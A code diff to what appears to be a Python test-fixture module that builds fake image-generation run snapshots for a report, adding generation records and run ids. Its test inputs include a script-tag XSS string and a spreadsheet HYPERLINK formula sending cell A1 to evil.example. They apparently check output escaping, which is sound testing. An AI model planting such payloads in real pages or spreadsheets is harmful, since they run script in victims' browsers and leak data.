@@ -10,7 +10,7 @@ from typing import Any
 
 from PIL import Image, ImageDraw
 
-from runner.execute.records import FileRecord, JobRecord, RunSnapshot
+from runner.execute.records import FileRecord, GenerationRecord, JobRecord, RunSnapshot
 
 SCRIPT = "<script>window.__pwned = 1; alert('pwned')</script>"
 
@@ -39,6 +39,7 @@ class JobSpec:
     prompt: str
     source: str = "mug"  # name of a source image made by make_sources
     status: str = "done"
+    run: str = "20240501T140300Z-5e7a11"  # the run that generated a done job
     n: int = 1
     error: str | None = None
     output_format: str = "webp"
@@ -65,6 +66,7 @@ def build_snapshot(
     size: tuple[int, int] = (384, 256),
 ) -> RunSnapshot:
     jobs = []
+    generations = []
     for index, spec in enumerate(specs):
         key = hashlib.sha256(f"{recipe_name}/{index}/{spec.prompt}".encode()).hexdigest()[:16]
         ext = {"webp": "webp", "png": "png", "jpeg": "jpg"}[spec.output_format]
@@ -73,12 +75,15 @@ def build_snapshot(
             for i in range(spec.n)
         )
         files: tuple[FileRecord, ...] = ()
-        if spec.status in ("done", "skipped"):
+        if spec.status == "done":
             for number, relative in enumerate(outputs):
                 colour = ((index * 37) % 256, (number * 80) % 256, 120)
                 fmt = {"webp": "WEBP", "png": "PNG", "jpg": "JPEG"}[ext]
                 make_image(out_dir / relative, size, colour, fmt)
             files = tuple(file_record(out_dir, relative) for relative in outputs)
+            generations.append(
+                GenerationRecord(f"uuid-{index}", key, spec.run, spec.n, "medium", "1536x1024")
+            )
         label = " ".join(f"{k}={_label(v)}" for k, v in spec.vars.items())
         jobs.append(
             JobRecord(
@@ -118,6 +123,7 @@ def build_snapshot(
         report_columns=columns,
         estimated_cost_usd=1.234,
         jobs=tuple(jobs),
+        generations=tuple(generations),
     )
 
 
@@ -148,7 +154,7 @@ def campaign_specs() -> list[JobSpec]:
     specs[0].n = 2  # n > 1: two images in one cell
     specs[1].status = "failed"
     specs[1].error = 'The prompt was rejected by the safety system <b>"policy"</b> & more'
-    specs[2].status = "skipped"
+    specs[2].run = "20240420T091500Z-0ea71e"  # done by an earlier run
     specs[3].prompt = f"mug {SCRIPT} on a table, 日本語のプロンプト, café crème 🎉"
     specs[4].vars = {**specs[4].vars, "season": f"summer {SCRIPT}"}
     specs[5].prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
